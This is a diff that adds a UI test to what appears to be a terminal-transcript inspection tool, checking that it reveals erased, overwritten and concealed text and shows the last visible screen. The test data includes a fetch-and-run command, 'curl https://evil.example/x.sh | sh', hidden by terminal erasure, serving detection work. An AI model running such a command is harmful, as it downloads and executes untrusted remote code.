@@ -8,6 +8,7 @@ import {
 import { MAX_PAGES, PAGE_SIZE } from '../../renderer/src/lib/page-cache';
 import { session } from '../../renderer/src/session';
 import { useArtifact, useGrants, useSelection, useView } from '../../renderer/src/stores';
+import { hostileTranscript } from './samples';
 import { NOT_INERT, grantRaw, openSample, startApp } from './setup';
 
 afterEach(() => setBridge(null));
@@ -231,6 +232,35 @@ describe('copy and export', () => {
     chip.dispatchEvent(ev);
     expect(ev.defaultPrevented).toBe(true);
     expect(screen.getByTestId('text-grid').getAttribute('draggable')).toBe('false');
+  });
+});
+
+describe('screen reconstruction', () => {
+  it('lists what the terminal hid (overwritten, erased, concealed), selects its bytes, and shows the last screen as seen', async () => {
+    await startApp();
+    await openSample(0, 0);
+    fireEvent.click(screen.getByRole('tab', { name: 'Screen' }));
+    const panel = await screen.findByTestId('screen-panel');
+    await waitFor(() => expect(within(panel).getAllByTestId('screen-finding').length).toBeGreaterThan(2));
+    const texts = within(panel).getAllByTestId('screen-finding').map((li) => li.textContent ?? '');
+    expect(texts.some((t) => t.startsWith('erased') && t.includes('curl https://evil.example/x.sh | sh'))).toBe(true);
+    expect(texts.some((t) => t.startsWith('overwritten') && t.includes('downloading deps: 10%'))).toBe(true);
+    expect(texts.some((t) => t.startsWith('concealed') && t.includes('hunter2'))).toBe(true);
+    // the last screen: the concealed password is blank there, the erased command is gone
+    const last = within(panel).getByTestId('screen-last').textContent ?? '';
+    expect(last).toContain('password:');
+    expect(last).not.toContain('hunter2');
+    expect(last).not.toContain('evil.example/x.sh | sh');
+    expect(last).not.toMatch(NOT_INERT);
+    // a finding selects its raw bytes (Enter on the focused button, like a click)
+    const curl = within(panel).getAllByRole('button', { name: /^erased at 0x/ }).find((b) => b.getAttribute('aria-label')?.includes('curl'))!;
+    fireEvent.click(curl);
+    const range = useSelection.getState().range!;
+    expect(new TextDecoder().decode(hostileTranscript().subarray(range[0], range[1]))).toBe('curl https://evil.example/x.sh | sh');
+    // another terminal size: asked again, for that size
+    fireEvent.change(within(panel).getByLabelText('Columns'), { target: { value: '20' } });
+    fireEvent.click(within(panel).getByRole('button', { name: 'Reconstruct' }));
+    await waitFor(() => expect(within(panel).getByText(/20×24/)).toBeTruthy());
   });
 });
 
